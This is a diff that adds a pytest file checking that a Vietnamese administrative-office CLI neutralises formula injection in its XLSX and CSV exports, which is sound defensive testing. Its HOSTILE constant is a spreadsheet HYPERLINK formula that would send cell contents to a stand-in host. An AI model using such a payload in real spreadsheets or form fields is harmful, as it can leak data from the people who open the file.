@@ -1,0 +1,99 @@
+"""Issue 13 §5, the edges: hostile or odd input at every door gives a Vietnamese sentence naming
+the field, writes nothing and exits non-zero; what the program writes is safe to open.
+
+Everything runs through the command line (``oneStop.cli.main``) or the services, on real files
+and a real SQLite database."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+CATALOG_HEADER = ("ma_thu_tuc,ten_thu_tuc,linh_vuc,co_quan_giai_quyet,so_ngay_giai_quyet,so_gio_giai_quyet,le_phi,"
+                  "ghi_chu_le_phi,tiep_nhan_buu_chinh,tra_ket_qua_buu_chinh,thanh_phan_ho_so,hieu_luc\n")
+HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'
+
+
+@pytest.fixture
+def ready(run):  # type: ignore[no-untyped-def]
+    code, out, err = run("setup", "--agency-code", "000.17.22.H56", "--agency-name", "Bộ phận Một cửa xã Quảng Phú",
+                         "--managing-agency", "UBND xã Quảng Phú", "--province", "Thanh Hóa", "--counter", "1",
+                         "--admin", "admin")
+    assert code == 0, err
+    code, out, err = run("users", "add", "hoa", "--role", "official", "--full-name", "Nguyễn Thị Hoa")
+    assert code == 0, err
+    code, out, err = run("users", "add", "binh", "--role", "supervisor", "--full-name", "Lê Văn Bình")
+    assert code == 0, err
+    return run
+
+
+def _catalog_file(tmp_path: Path, *rows: str, name: str = "catalog.csv") -> Path:
+    path = tmp_path / name
+    path.write_text(CATALOG_HEADER + "".join(r + "\n" for r in rows), encoding="utf-8")
+    return path
+
+
+def _receive(run, *extra: str, procedure: str = "1.001193") -> dict:  # type: ignore[no-untyped-def]
+    code, out, err = run("receive", "--user", "hoa", "--procedure", procedure, "--name", "Phạm Văn Nam",
+                         "--citizen-id", "038095001234", "--phone", "0987654321",
+                         "--address", "Thôn Đông, xã Quảng Phú", "--json", *extra)
+    assert code == 0, err
+    return json.loads(out)
+
+
+def _dossiers(run) -> list:  # type: ignore[no-untyped-def]
+    code, out, err = run("dossier", "list", "--json")
+    assert code == 0, err
+    return json.loads(out)
+
+
+# --- 1. spreadsheets never carry live formulas ---------------------------------------------------
+
+
+def test_text_that_looks_like_a_formula_is_text_in_every_exported_spreadsheet(ready, tmp_path):
+    catalog = _catalog_file(tmp_path, f'9.000001,"{HOSTILE.replace(chr(34), chr(34) * 2)}",+Hộ tịch,@UBND cấp xã,'
+                                      '3,0,0,-miễn,có,có,Tờ khai [bản chính x1],có')
+    code, out, err = ready("catalog", "import", str(catalog))
+    assert code == 0, err
+    dossier = _receive(ready, "--address", "=1+2", "--notes=-3+4", procedure="9.000001")
+    day = dossier["received_at"][:10]
+
+    book = tmp_path / "book.xlsx"
+    code, out, err = ready("log", "--date", day, "--format", "xlsx", "--out", str(book), "--user", "binh")
+    assert code == 0, err
+    sheet = load_workbook(book).active
+    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    for value in (HOSTILE, "=1+2, 0987****21", "-3+4"):
+        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+    report = tmp_path / "report.xlsx"
+    code, out, err = ready("report", "--period", day[:7], "--format", "xlsx", "--out", str(report), "--user", "binh")
+    assert code == 0, err
+    workbook = load_workbook(report)
+    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(c.value == "+Hộ tịch" and c.data_type == "s" and c.quotePrefix for c in cells)
+
+    exported = tmp_path / "out.xlsx"
+    assert ready("catalog", "export", str(exported))[0] == 0
+    cells = [c for ws in load_workbook(exported).worksheets for row in ws.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert {HOSTILE, "+Hộ tịch", "@UBND cấp xã", "-miễn"} <= {c.value for c in cells if c.quotePrefix}
+
+    exported_csv = tmp_path / "out.csv"
+    assert ready("catalog", "export", str(exported_csv))[0] == 0
+    rows = list(csv.reader(io.StringIO(exported_csv.read_text(encoding="utf-8-sig"), newline="")))
+    mine = next(r for r in rows if r[0] == "9.000001")
+    assert mine[1:4] == ["'" + HOSTILE, "'+Hộ tịch", "'@UBND cấp xã"] and mine[7] == "'-miễn"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+    # and the exports read back as they were: nothing changes
+    for again in (exported, exported_csv):
+        code, out, err = ready("catalog", "import", str(again))
+        assert code == 0 and "0 thêm mới, 0 cập nhật" in out, err
